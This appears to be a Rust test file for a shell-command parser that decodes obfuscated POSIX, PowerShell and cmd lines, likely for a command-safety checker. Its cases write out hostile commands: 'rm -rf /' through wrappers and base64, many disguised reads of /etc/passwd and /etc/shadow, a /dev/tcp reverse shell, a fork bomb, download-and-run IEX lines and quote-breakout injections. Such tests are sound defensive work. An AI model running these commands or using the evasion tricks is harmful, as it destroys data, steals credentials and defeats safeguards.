//! What lines parse to. Notation: words joined by `·`, commands by ` | ` in a pipe, else by ` ; `; in brackets how a
//! command is reached when it does not stand in the text itself.

use super::{Context, Dialect, Joined, ShellScratch, Within, parse_within};

fn shown(line: &str, dialect: Dialect, within: Within) -> String {
    let mut scratch = ShellScratch::default();
    parse_within(line.as_bytes(), dialect, within, &mut scratch);
    let shell = scratch.shell();
    let mut out = String::new();
    for (index, command) in shell.commands().iter().enumerate() {
        if index > 0 {
            out += if command.joined == Joined::Pipe { " | " } else { " ; " };
        }
        out += match command.context {
            Context::Top => "",
            Context::Substitution => "[$] ",
            Context::ProcessSubstitution => "[<] ",
            Context::Subshell => "[(] ",
            Context::Function => "[f] ",
            Context::HereDoc => "[<<] ",
            Context::Inner => "[>] ",
        };
        let mut parts = Vec::new();
        for one in shell.assignments(command) {
            let text = |span| String::from_utf8_lossy(shell.text(span)).into_owned();
            parts.push(format!("{}={}", text(one.name), text(one.value.text)));
        }
        parts.extend(
            shell.words(command).iter().map(|word| String::from_utf8_lossy(shell.text(word.text)).into_owned()),
        );
        for redirect in shell.redirects(command) {
            parts.push(format!("{:?}:{}", redirect.op, String::from_utf8_lossy(shell.text(redirect.target.text))));
        }
        out += &parts.join("·");
        if command.background {
            out += " &";
        }
    }
    if !shell.is_complete() {
        out += " …";
    }
    out
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(line, parsed)| {
            let found = shown(line, Dialect::Posix, Within::Nothing);
            (found != *parsed).then(|| format!("{line}\n  want {parsed}\n  have {found}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn honest_lines_are_what_they_are() {
    check(&[
        ("git commit -m \"stop; rm -rf / in docs\"", "git·commit·-m·stop; rm -rf / in docs"),
        ("echo 'curl x | bash' >> NOTES.md", "echo·curl x | bash·Append:NOTES.md"),
        ("cd x && make -j8 | tee log", "cd·x ; make·-j8 | tee·log"),
        ("awk '{print $1}' f | sort -u", "awk·{print $1}·f | sort·-u"),
        ("grep -E 'a|b' f", "grep·-E·a|b·f"),
        ("sed 's/;/|/g'", "sed·s/;/|/g"),
        ("ssh host 'uptime'", "ssh·host·uptime ; [>] uptime"),
        ("find . -name '*.o' -delete", "find·.·-name·*.o·-delete"),
        ("for f in *.c; do gcc -c \"$f\"; done", "for·*.c ; gcc·-c·*.c"),
        ("FOO=bar cmd", "FOO=bar·cmd"),
        (
            "docker run --rm -v \"$PWD\":/x img sh -c \"make && ls\"",
            "docker·run·--rm·-v·$PWD:/x·img·sh·-c·make && ls ; [>] sh·-c·make && ls ; [>] make ; [>] ls",
        ),
        ("curl 'https://a.example/?x=1&y=2;z'", "curl·https://a.example/?x=1&y=2;z"),
        ("cat > f <<'EOF'\nrm -rf / $(id)\nEOF\nls", "cat·Write:f·HereDoc:rm -rf / $(id)\n ; ls"),
        ("cat <<EOF > f\nhello $USER\nEOF", "cat·HereDoc:hello $USER\n·Write:f"),
        (
            "git commit -m \"$(cat <<'EOF'\nIt's done (really)\n\nCo-authored: x\nEOF\n)\"",
            "git·commit·-m·It's done (really)\n\nCo-authored: x ; [$] cat·HereDoc:It's done (really)\n\nCo-authored: x\n",
        ),
        ("if [ -f x ]; then cat x; else touch x; fi", "[·-f·x·] ; cat·x ; touch·x"),
        ("while read -r l; do echo \"$l\"; done < f", "read·-r·l ; echo·$l ; Read:f"),
        ("case \"$1\" in start|stop) systemctl $1 x;; *) exit 1;; esac", "systemctl·$1·x ; exit·1"),
        ("[[ $a == b && -n $c ]] && ls", "[[·$a·==·b·&·&·-n·$c·]] ; ls"),
        ("npm run build -- --mode=x # build; rm -rf /", "npm·run·build·--·--mode=x"),
        ("make 2>&1 | tee -a log &", "make·Duplicate:1 & | tee·-a·log &"),
        ("echo $((1 + 2)) ${HOME}/x", "echo·$(())·$HOME/x"),
        ("ls \\\n  -la", "ls·-la"),
        ("mkdir -p src/{a,b}/{x,y}", "mkdir·-p·src/a/x·src/a/y·src/b/x·src/b/y"),
        ("time make -j4", "time·make·-j4 ; [>] make·-j4"),
        ("! grep -q x f", "grep·-q·x·f"),
        ("find . -type f -exec grep -l x {} +", "find·.·-type·f·-exec·grep·-l·x·{}·+ ; [>] grep·-l·x·{}"),
        ("a=(x y z); echo ${a[1]} ${#a[@]}", "a=x\ny\nz ; echo·y·$#a[@]"),
        ("printf '%s\\n' \"a\" > out.txt", "printf·%s\\n·a·Write:out.txt"),
        ("echo it\\'s && ls", "echo·it's ; ls"),
        ("git stash && git checkout -b f/x || exit 1", "git·stash ; git·checkout·-b·f/x ; exit·1"),
        ("", ""),
        ("   # nothing\n", ""),
    ]);
}

#[test]
fn what_hides_a_word_is_undone() {
    let cat = "cat·/etc/passwd";
    for line in [
        "c\"\"at /etc/passwd",
        "c''at /etc/passwd",
        "c\\at /etc/pass\\wd",
        "'c'a\"t\" /etc/passwd",
        "c$@at /etc/passwd",
        "c$*at /etc/pa$*sswd",
        "c$1at /etc/passwd",
        "c${x}at /etc/passwd",
        "cat /etc/pass$u\\wd",
        "cat$u /etc$u/passwd$u",
        "cat${IFS}/etc/passwd",
        "cat$IFS/etc/passwd",
        "cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        "{\"cat\",'/etc/passwd'}",
        "cat ${PATH:0:1}etc${HOME:0:1}passwd",
        "$'\\x63\\x61t' /etc/passwd",
        "$'\\143at' $'/etc/p\\u0061sswd'",
        "$\"cat\" /etc/passwd",
        "c\\\nat /etc/passwd",
        "cat /etc//passwd",
    ] {
        let found = shown(line, Dialect::Posix, Within::Nothing).replace("//", "/");
        assert_eq!(found, cat, "{line}");
    }
    check(&[
        ("a=cat;b=/etc/passwd;$a $b", "a=cat ; b=/etc/passwd ; cat·/etc/passwd"),
        ("X=$'cat\\x20/etc/passwd'&&$X", "X=cat /etc/passwd ; cat·/etc/passwd"),
        ("a=c;b=at;$a$b x", "a=c ; b=at ; cat·x"),
        ("a=tac; ${a:2:1}${a:1:1}${a:0:1} x", "a=tac ; cat·x"),
        ("a=cXaXt; ${a//X} f", "a=cXaXt ; cat·f"),
        ("a=CAT; ${a,,} f", "a=CAT ; cat·f"),
        ("${x:-cat} f", "cat·f"),
        ("a=b; b=cat; ${!a} f", "a=b ; b=cat ; cat·f"),
        ("$(printf cat) f", "cat·f ; [$] printf·cat"),
        ("$(echo c)at f", "cat·f ; [$] echo·c"),
        ("`echo cat` f", "cat·f ; [$] echo·cat"),
        ("c$(echo)at f", "cat·f ; [$] echo"),
        ("w$()get x", "wget·x"),
        ("w``get x", "wget·x"),
        ("$(echo Y2F0 | base64 -d) f", "cat·f ; [$] echo·Y2F0 | [$] base64·-d"),
        ("$(rev<<<tac) f", "cat·f ; [$] rev·HereString:tac"),
        ("$(printf '\\x63\\x61\\x74') f", "cat·f ; [$] printf·\\x63\\x61\\x74"),
        ("$(tr a-z b-za <<< bzs) f", "cat·f ; [$] tr·a-z·b-za·HereString:bzs"),
        ("$(which curl) x", "curl·x ; [$] which·curl"),
        ("IFS=,;`cat<<<cat,/etc/passwd`", "IFS=, ; cat·/etc/passwd ; [$] cat·HereString:cat,/etc/passwd"),
        ("for x in id; do $x; done", "for·id ; id"),
        ("set -- cat f; $1 $2", "set·--·cat·f ; cat·f"),
        ("a=(cat /etc/passwd); \"${a[@]}\"", "a=cat\n/etc/passwd ; cat·/etc/passwd"),
        ("a=('b c' d); x \"${a[@]}\" ${a[0]}", "a=b c\nd ; x·b c·d·b·c"),
        ("c${z:+x}at f", "cat·f"),
        ("rm ${HOME:-x}", "rm·$HOME"),
        ("export p=/etc/shadow; cat $p", "p=/etc/shadow·export·p=/etc/shadow ; cat·/etc/shadow"),
        ("{l,-lh,}s", "ls·-lhs·s"),
    ]);
}

#[test]
fn wrappers_are_opened() {
    check(&[
        ("sudo rm -rf /", "sudo·rm·-rf·/ ; [>] rm·-rf·/"),
        ("sudo -u root -- rm x", "sudo·-u·root·--·rm·x ; [>] rm·x"),
        ("sudo A=b id", "A=b·sudo·A=b·id ; [>] id"),
        ("env -i A=b C=d nice -n 5 id", "A=b·C=d·env·-i·A=b·C=d·nice·-n·5·id ; [>] nice·-n·5·id ; [>] id"),
        ("bash -c 'id; ls'", "bash·-c·id; ls ; [>] id ; [>] ls"),
        ("bash -lc \"id\"", "bash·-lc·id ; [>] id"),
        ("bash -x -c 'id'", "bash·-x·-c·id ; [>] id"),
        ("busybox sh -c 'id'", "busybox·sh·-c·id ; [>] sh·-c·id ; [>] id"),
        ("sh -c '$0 $1' cat f", "sh·-c·$0 $1·cat·f ; [>] cat·f"),
        ("eval \"rm -rf /\"", "eval·rm -rf / ; [>] rm·-rf·/"),
        ("eval 'c''at' f", "eval·cat·f ; [>] cat·f"),
        ("timeout -s KILL 5 id", "timeout·-s·KILL·5·id ; [>] id"),
        ("nohup setsid id &", "nohup·setsid·id & ; [>] setsid·id & ; [>] id &"),
        ("stdbuf -oL id", "stdbuf·-oL·id ; [>] id"),
        ("watch -n 1 'ls; id'", "watch·-n·1·ls; id ; [>] ls ; [>] id"),
        ("script -qc 'id' /dev/null", "script·-qc·id·/dev/null ; [>] id"),
        ("su - bob -c 'id'", "su·-·bob·-c·id ; [>] id"),
        ("su -c id", "su·-c·id ; [>] id"),
        ("docker exec -it -u 0 web sh -c 'id'", "docker·exec·-it·-u·0·web·sh·-c·id ; [>] sh·-c·id ; [>] id"),
        ("kubectl -n x exec pod -c y -- id", "kubectl·-n·x·exec·pod·-c·y·--·id ; [>] id"),
        ("ssh -p 22 a@b rm -rf /x", "ssh·-p·22·a@b·rm·-rf·/x ; [>] rm·-rf·/x"),
        ("ssh -o ProxyCommand='id;' h", "ssh·-o·ProxyCommand=id;·h ; [>] id"),
        ("ssh host <<EOF\nid\nEOF", "ssh·host·HereDoc:id\n ; [<<] id"),
        (
            "find / -exec sh -c 'id {}' \\; -ok rm {} +",
            "find·/·-exec·sh·-c·id {}·;·-ok·rm·{}·+ ; [>] sh·-c·id {} ; [>] rm·{} ; [>] id·{}",
        ),
        ("ls | xargs -n1 -I{} rm {}", "ls | xargs·-n1·-I{}·rm·{} ; [>] rm·{}"),
        ("echo / | xargs rm -rf", "echo·/ | xargs·rm·-rf ; [>] rm·-rf·/"),
        ("echo / | xargs -I% sh -c 'rm %'", "echo·/ | xargs·-I%·sh·-c·rm % ; [>] sh·-c·rm / ; [>] rm·/"),
        ("parallel rm -rf {} ::: /", "parallel·rm·-rf·{}·:::·/ ; [>] rm·-rf·/"),
        (
            "echo 'rm -rf /' | parallel bash -c {}",
            "echo·rm -rf / | parallel·bash·-c·{} ; [>] bash·-c·rm -rf / ; [>] rm·-rf·/",
        ),
        ("parallel 'cat {} | sh' ::: f", "parallel·cat {} | sh·:::·f ; [>] cat·f | [>] sh"),
        ("echo ok | xargs -a f rm", "echo·ok | xargs·-a·f·rm ; [>] rm"),
        ("alias ls='rm -rf /'", "ls=rm -rf /·alias·ls=rm -rf / ; [>] rm·-rf·/"),
        ("${SHELL} -c id", "$SHELL·-c·id ; [>] id"),
        ("parallel ::: 'id -u'", "parallel·:::·id -u ; [>] id·-u"),
        ("command -p exec id", "command·-p·exec·id ; [>] exec·id ; [>] id"),
        ("echo 'rm -rf /' | sh", "echo·rm -rf / | sh ; [<<] rm·-rf·/"),
        (
            "echo cm0gLXJmIC8= | base64 -d | sudo bash",
            "echo·cm0gLXJmIC8= | base64·-d | sudo·bash ; [>] bash ; [<<] rm·-rf·/",
        ),
        ("sh <<< 'id'", "sh·HereString:id ; [<<] id"),
        ("cat <<EOF | bash\nid\nEOF", "cat·HereDoc:id\n | bash ; [<<] id"),
        ("trap 'id' EXIT", "trap·id·EXIT ; [>] id"),
        ("xargs -a f rm", "xargs·-a·f·rm ; [>] rm"),
        ("flock /tmp/l -c 'id'", "flock·/tmp/l·-c·id ; [>] id"),
        ("npx -c 'id'", "npx·-c·id ; [>] id"),
    ]);
}

#[test]
fn substitutions_and_groups() {
    check(&[
        ("echo \"$(id)\"", "echo·$() ; [$] id"),
        ("echo `id`", "echo·$() ; [$] id"),
        ("echo `echo \\`id\\``", "echo·$() ; [$] echo·$() ; [$] id"),
        ("diff <(sort a) <(sort b)", "diff·<()·<() ; [<] sort·a ; [<] sort·b"),
        ("(cd x; ls) | wc", "[(] cd·x ; [(] ls | wc"),
        ("{ id; ls; } > f", "id ; ls ; Write:f"),
        ("f() { id; }; f", "[f] id ; f"),
        ("function f { id; }", "[f] id"),
        (":(){ :|:& };:", "[f] : & | [f] : & ; :"),
        (":(){:|:&};:", "[f] : & | [f] : & ; :"),
        ("f(){ f() & f(); }; f", "[f] f & ; [f] f ; f"),
        ("f()\n{\n id\n}", "[f] id"),
        ("f () if x; then y; fi", "[f] x ; [f] y"),
        ("() { :;}; /bin/id", ": ; /bin/id"),
        ("x=$(id) y=`ls`", "x=$()·y=$() ; [$] id ; [$] ls"),
        ("cat <<EOF\n$(id)\nEOF", "cat·HereDoc:$()\n ; [$] id"),
        ("echo $((1+$(id)))", "echo·$(()) ; [$] id"),
        ("((x = $(id)))", " ; [$] id"),
        ("echo ${x:-$(id)} ${y/$(ls)/b}", "echo·$()·$y/$(ls)/b ; [$] id ; [$] ls"),
        ("; id", "id"),
        ("| whoami", "whoami"),
        ("a & b && c", "a & ; b ; c"),
        ("x\nid\r\nls", "x ; id ; ls"),
        ("echo \"unclosed; id", "echo·unclosed; id"),
        ("echo $(id", "echo·$() ; [$] id"),
        ("case x in a) id", "id"),
        ("if id; then", "id"),
        ("a | (b | c) | d", "a | [(] b | [(] c | d"),
        ("((((((((((((id))))))))))))", ""),
        ("( ( ( id ) ) )", "[(] id"),
        ("echo a{1..3}b {x,y}{1,2}", "echo·a1b·a2b·a3b·x1·x2·y1·y2"),
        ("> f < g", "Write:f·Read:g"),
        ("cmd &> all 2>/dev/null", "cmd·Write:all·Write:/dev/null"),
        ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "bash·-i·Write:/dev/tcp/1.2.3.4/99·Duplicate:1"),
        ("exec 5<>/dev/tcp/a/1", "exec·ReadWrite:/dev/tcp/a/1"),
    ]);
}

#[test]
fn a_value_that_breaks_out_of_its_quotes() {
    for (value, within, parsed) in [
        ("'; id; '", Within::SingleQuotes, " ; id ; "),
        ("x'; id #", Within::SingleQuotes, "x ; id"),
        ("it is; fine | so", Within::SingleQuotes, "it is; fine | so"),
        ("\" && id", Within::DoubleQuotes, " ; id"),
        ("$(id)", Within::DoubleQuotes, "$() ; [$] id"),
        ("say 'hi'; id", Within::DoubleQuotes, "say 'hi'; id"),
    ] {
        assert_eq!(shown(value, Dialect::Posix, within), parsed, "{value}");
    }
}

#[test]
fn powershell() {
    for (line, parsed) in [
        (
            "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 5 }",
            "Get-ChildItem·-Recurse | Where-Object·{} ; [>] $_.Length·-gt·5",
        ),
        ("iex (iwr 'http://x/a.ps1')", "iex·$() ; [$] iwr·http://x/a.ps1"),
        (
            "IEX(New-Object Net.WebClient).DownloadString('http://x')",
            "IEX·$().DownloadString() ; [$] New-Object·Net.WebClient ; [$] DownloadString·http://x",
        ),
        ("i`e`x 'id'", "iex·id ; [>] id"),
        ("&('i'+'ex') $x", "iex·$x ; [>] $x"),
        ("& \"C:\\x y\\a.exe\" -f", "C:\\x y\\a.exe·-f"),
        (
            "$u='http://x'; iwr $u -OutFile a.exe; Start-Process a.exe",
            "u=http://x ; iwr·http://x·-OutFile·a.exe ; Start-Process·a.exe ; [>] a.exe",
        ),
        ("Write-Output \"a; rm -r /\" > out.txt # x; y", "Write-Output·a; rm -r /·Write:out.txt"),
        ("\"it`'s $env:USERNAME\" | Out-File x", "it's $env:USERNAME | Out-File·x"),
        ("Remove-Item -Recurse -Force C:\\Temp; ls", "Remove-Item·-Recurse·-Force·C:\\Temp ; ls"),
        ("$x = Get-Content a; $x", "x= ; $x ; [$] Get-Content·a"),
        ("ls # a\rRemove-Item b\r\nls", "ls ; Remove-Item·b ; ls"),
        ("ls `\r\n a `\rb", "ls·a·b"),
    ] {
        assert_eq!(shown(line, Dialect::PowerShell, Within::Nothing), parsed, "{line}");
    }
    let encoded = "powershell -nop -w hidden -enc aQBkADsAIABsAHMA";
    assert_eq!(
        shown(encoded, Dialect::Posix, Within::Nothing),
        format!("{} ; [>] id ; [>] ls", encoded.replace(' ', "·"))
    );
}

#[test]
fn cmd() {
    for (line, parsed) in [
        ("dir /b C:\\x & type a.txt | findstr x", "dir·/b·C:\\x ; type·a.txt | findstr·x"),
        ("w^h^o^ami && net^ user", "whoami ; net user"),
        ("set a=who&set b=ami&%a%%b%", "a=who·set ; b=ami·set ; whoami"),
        ("set x=abcde&echo %x:~1,3%", "x=abcde·set ; echo·bcd"),
        ("if exist x (del /q x) else echo no", "del·/q·x ; echo·no"),
        ("for %i in (a b) do @echo %i", "for·%i·in·a·b ; echo·%i"),
        ("type %SYSTEMROOT%\\repair\\SAM > o.txt 2>&1", "type·%SYSTEMROOT%\\repair\\SAM·Write:o.txt·Duplicate:1"),
        ("echo \"a & b\"", "echo·a & b"),
        ("if not defined X (if /i \"%a%\"==\"b c\" dir) & ver", "dir ; ver"),
        (
            "powershell IEX(New-Object Net.WebClient)",
            "powershell·IEX(New-Object·Net.WebClient) ; [>] IEX·$() ; [$] New-Object·Net.WebClient",
        ),
        ("rem del x\ncmd/c dir", "cmd·/c·dir ; [>] dir"),
    ] {
        assert_eq!(shown(line, Dialect::Cmd, Within::Nothing), parsed, "{line}");
    }
    assert_eq!(
        shown("cmd /c \"del x & dir\"", Dialect::Posix, Within::Nothing),
        "cmd·/c·del x & dir ; [>] del·x ; [>] dir"
    );
}

#[test]
fn dialects_are_guessed() {
    for (text, dialect) in [
        ("ls -la | grep x", Dialect::Posix),
        ("powershell -enc aQBkAA==", Dialect::Posix),
        ("powershell -c 'iex (iwr x)'", Dialect::Posix),
        ("powershell IEX(iwr x)", Dialect::Cmd),
        ("Get-ChildItem C:\\ -Recurse", Dialect::PowerShell),
        ("$env:PATH", Dialect::PowerShell),
        ("IEX (New-Object Net.WebClient)", Dialect::PowerShell),
        ("dir C:\\Windows", Dialect::Cmd),
        ("del /f /q x", Dialect::Cmd),
        ("type %SYSTEMROOT%\\repair\\SAM", Dialect::Cmd),
        ("echo 100% sure", Dialect::Posix),
        ("date +%Y%m%d", Dialect::Posix),
        ("& FOR /F \"tokens=1\" %A IN (\"x\") DO @echo y", Dialect::Cmd),
        (";iex (iwr http://x)", Dialect::PowerShell),
        ("for x in *; do ls; done", Dialect::Posix),
        ("", Dialect::Posix),
    ] {
        assert_eq!(Dialect::guess(text.as_bytes()), dialect, "{text}");
    }
}

/// Whether the last command is asked by each query for the names that its pattern may stand for, and what it is called.
fn last(line: &str, scratch: &mut ShellScratch) -> (bool, String) {
    parse_within(line.as_bytes(), Dialect::Posix, Within::Nothing, scratch);
    let shell = scratch.shell();
    assert!(shell.is_complete(), "{line}");
    let command = shell.commands().last().unwrap();
    (shell.is_globbed(command), String::from_utf8_lossy(shell.text(command.name)).into_owned())
}

#[test]
fn many_patterns_in_programs_places() {
    let decoys: String = (0..300).map(|at| format!("/opt/a{at}?b x\n")).collect();
    let mut scratch = ShellScratch::default();
    assert_eq!(last("/b?n/c?t x", &mut scratch), (true, "c?t".into()));
    assert_eq!(last(&format!("{decoys}/b?n/c?t x"), &mut scratch), (false, "cat".into()));
    // The folder is the pattern, not the name.
    assert_eq!(last("/b?n/cat x", &mut scratch), (false, "cat".into()));
    // Over the texts of a message they are counted together, and from the next message on anew.
    scratch.begin_message();
    last(&decoys, &mut scratch);
    assert_eq!(last("/b?n/c?t x", &mut scratch), (false, "cat".into()));
    scratch.begin_message();
    assert_eq!(last("/b?n/c?t x", &mut scratch), (true, "c?t".into()));
}
